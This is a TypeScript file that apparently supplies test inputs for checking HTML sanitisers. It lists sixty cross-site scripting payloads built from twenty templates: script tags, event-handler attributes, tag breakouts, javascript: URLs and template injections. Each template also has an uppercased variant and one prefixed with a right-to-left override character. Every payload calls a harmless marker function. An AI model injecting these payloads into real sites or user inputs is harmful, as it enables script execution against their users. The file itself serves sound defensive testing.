/** Sixty ways to make a page run something; each calls `__struck` with its number when it does. */
export const PAYLOADS: readonly string[] = [
  (n: number) => `<script>__struck(${n})</script>`,
  (n: number) => `"><script>__struck(${n})</script>`,
  (n: number) => `<img src=x onerror=__struck(${n})>`,
  (n: number) => `<svg onload=__struck(${n})>`,
  (n: number) => `<svg><script>__struck(${n})</script></svg>`,
  (n: number) => `<body onload=__struck(${n})>`,
  (n: number) => `<iframe srcdoc="<script>parent.__struck(${n})</script>">`,
  (n: number) => `<a href="javascript:__struck(${n})" autofocus onfocus=__struck(${n})>x</a>`,
  (n: number) => `<details open ontoggle=__struck(${n})>`,
  (n: number) => `<video><source onerror=__struck(${n})>`,
  (n: number) => `<input autofocus onfocus=__struck(${n})>`,
  (n: number) => `</textarea><script>__struck(${n})</script>`,
  (n: number) => `</title><script>__struck(${n})</script>`,
  (n: number) => `</script><script>__struck(${n})</script>`,
  (n: number) => `<!--><script>__struck(${n})</script>`,
  (n: number) => `{{constructor.constructor('__struck(${n})')()}}`,
  (n: number) => `\${__struck(${n})}`,
  (n: number) => `';__struck(${n});//`,
  (n: number) => `<math><mi xlink:href="javascript:__struck(${n})">`,
  (n: number) => `<object data="javascript:__struck(${n})">`,
].flatMap((make, n) => [
  make(n),
  make(n + 20)
    .toUpperCase()
    .replaceAll('__STRUCK', '__struck'),
  `\u202e${make(n + 40)}`,
]);
